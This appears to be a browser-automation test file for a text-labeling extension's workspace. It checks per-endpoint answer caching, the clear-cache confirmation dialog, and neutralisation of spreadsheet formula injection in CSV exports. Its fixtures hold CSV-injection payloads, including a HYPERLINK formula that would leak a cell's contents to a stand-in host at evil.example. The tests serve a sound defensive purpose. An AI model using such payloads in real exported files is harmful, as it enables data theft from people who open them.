// The workspace's answer cache and CSV export in real Chromium (issue 11, items 9 and 10):
// answers are cached per endpoint and region, so an answer from one endpoint is never replayed
// for another; "Clear cache" asks first and says how many answers went; CSV exports neutralise
// formula injection in every cell (input columns and model output), JSONL and the page do not.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { readFileSync, writeFileSync, mkdirSync } from "node:fs";
import { launchWithExtension } from "../lib/chromium.mjs";
import { startEmulator } from "../emulator/emulator.mjs";
import { LONG_LIVED } from "../emulator/test-credentials.mjs";
import { loadLabeler } from "../lib/load-wasm.mjs";

const OUT = new URL("../out/", import.meta.url).pathname;
mkdirSync(OUT, { recursive: true });

// Labels: one of them starts a formula, so the model's output carries one too.
const LABELS = ["positive", "negative", "=neutral"];
// Texts a spreadsheet would run (the emulator labels each by the label its text names).
const TEXTS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"positive")',
  "+1+1 negative",
  "-2+3 =neutral",
  "@SUM(A1:A2) positive",
  "\t=1+1 negative",
  "a plain positive row",
];
const N = TEXTS.length;
const csvCell = (s) => `"${s.replace(/"/g, '""')}"`;
const CSV_PATH = `${OUT}formulas.csv`;
writeFileSync(CSV_PATH, "text,note\n" + TEXTS.map((t, i) => `${csvCell(t)},${i === 0 ? "=1+2" : "ok"}`).join("\n") + "\n");

let emuA, emuB, browser, labeler, page;

before(async () => {
  labeler = await loadLabeler();
  [emuA, emuB] = await Promise.all([startEmulator(), startEmulator()]);
  browser = await launchWithExtension({ headless: true });
  page = await browser.context.newPage();
  await page.setViewportSize({ width: 1280, height: 900 });
  await page.goto(browser.popupUrl.replace("popup.html", "workspace.html"));
  await page.waitForSelector("#version:not(:empty)");
  await page.fill("#access-key-id", LONG_LIVED.accessKeyId);
  await page.fill("#secret-access-key", LONG_LIVED.secretAccessKey);
  await page.fill("#labels", LABELS.join("\n"));
  await page.click("details.advanced summary");
  await page.fill("#batch-size", "2");
  for (const id of ["#labels", "#batch-size"]) await page.dispatchEvent(id, "change");
});

after(async () => {
  await browser?.close();
  await Promise.all([emuA?.close(), emuB?.close()]);
});

const stat = async (id) => Number((await page.textContent(`#stat-${id}`)).replace(/[^\d]/g, ""));
const cacheCount = () =>
  page.evaluate(
    () =>
      new Promise((resolve, reject) => {
        const open = indexedDB.open("bedrock-labeler-workspace");
        open.onerror = () => reject(open.error);
        open.onsuccess = () => {
          const req = open.result.transaction("cache").objectStore("cache").count();
          req.onsuccess = () => resolve(req.result);
          req.onerror = () => reject(req.error);
        };
      }),
  );

/** Loads the file afresh and labels it against `endpoint`; resolves when the run is done. */
async function run(endpoint) {
  await page.fill("#endpoint", endpoint);
  await page.dispatchEvent("#endpoint", "change");
  await page.evaluate(() => (document.getElementById("file").value = "")); // the same file again still loads
  await page.setInputFiles("#file", CSV_PATH);
  await page.waitForFunction(() => document.getElementById("run-status").textContent === "");
  await page.click("#predict");
  await page.waitForFunction(() => document.getElementById("run-status").textContent.startsWith("Done"), null, { timeout: 30_000 });
  assert.equal(await page.isHidden("#error"), true, await page.textContent("#error"));
}

test("CSV export: every cell that starts a formula is prefixed with ' and quoted, input and model output alike; JSONL and the table keep the text", async () => {
  await run(emuA.url);
  assert.equal(await stat("done"), N);

  const [csv] = await Promise.all([page.waitForEvent("download"), page.click("#export-csv")]);
  const text = readFileSync(await csv.path(), "utf8");
  assert.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""positive"")"`), text);
  assert.ok(text.includes(`"'=1+2"`), "an input column that is not the text column");
  const table = labeler.parseDataset(Buffer.from(text), "x.csv");
  assert.deepEqual(table.columns, ["text", "note", "labels", "spans", "status", "error", "cached"]);
  table.rows.forEach((row, i) => {
    const starts = /^[=+\-@\t\r]/.test(TEXTS[i]);
    assert.equal(row[0], starts ? `'${TEXTS[i]}` : TEXTS[i], `row ${i}`);
  });
  assert.equal(table.rows[0][1], "'=1+2");
  assert.equal(table.rows[2][2], "'=neutral", "the model's answer is neutralised too");
  for (const row of table.rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a live formula: ${JSON.stringify(cell)}`);

  const [jsonl] = await Promise.all([page.waitForEvent("download"), page.click("#export-jsonl")]);
  const lines = readFileSync(await jsonl.path(), "utf8").trim().split("\n").map((l) => JSON.parse(l));
  assert.deepEqual(lines.map((o) => o.text), TEXTS);
  assert.deepEqual(lines[2].labels, ["=neutral"]);
  const shown = await page.$$eval("#results-table tbody tr", (trs) => trs.map((tr) => tr.children[1].textContent));
  assert.deepEqual(shown, TEXTS, "the page shows the text as it is");
});

test("the cache answers the same endpoint again, but never another endpoint", async () => {
  const sentToA = emuA.stats.invocations.length;
  await run(emuA.url);
  assert.equal(await stat("cached"), N, "same endpoint: every row from the cache");
  assert.equal(emuA.stats.invocations.length, sentToA);

  await run(emuB.url);
  assert.equal(await stat("cached"), 0, "another endpoint: nothing from the cache");
  assert.ok(emuB.stats.invocations.length > 0, "the other endpoint was asked");
  assert.equal(await cacheCount(), 2 * N, "one answer per row and endpoint");
});

/** Clicks Clear cache, answering its confirmation with `answer`; returns { asked, info }. */
async function clickClearCache(answer) {
  let asked = null;
  const onDialog = (d) => {
    asked = d.message();
    return answer === "accept" ? d.accept() : d.dismiss();
  };
  page.on("dialog", onDialog);
  try {
    await page.evaluate(() => (document.getElementById("cache-info").textContent = ""));
    await page.click("#clear-cache");
    await page.waitForFunction(() => document.getElementById("cache-info").textContent !== "");
  } finally {
    page.off("dialog", onDialog);
  }
  return { asked, info: await page.textContent("#cache-info") };
}

test("Clear cache asks first, says how many answers were removed, and the next run asks Bedrock again", async () => {
  const dismissed = await clickClearCache("dismiss");
  assert.match(dismissed.asked, new RegExp(`^Remove ${2 * N} cached answers\\?`));
  assert.equal(dismissed.info, "Nothing was removed.");
  assert.equal(await cacheCount(), 2 * N);

  const accepted = await clickClearCache("accept");
  assert.match(accepted.asked, new RegExp(`^Remove ${2 * N} cached answers\\?`));
  assert.equal(accepted.info, `Removed ${2 * N} cached answers.`);
  assert.equal(await cacheCount(), 0);

  const sentToB = emuB.stats.invocations.length;
  await run(emuB.url);
  assert.equal(await stat("cached"), 0);
  assert.ok(emuB.stats.invocations.length > sentToB, "asked again after clearing");
  assert.equal((await clickClearCache("accept")).info, `Removed ${N} cached answers.`);

  const empty = await clickClearCache("accept");
  assert.equal(empty.asked, null, "nothing to remove: no question");
  assert.equal(empty.info, "The cache is empty.");
});
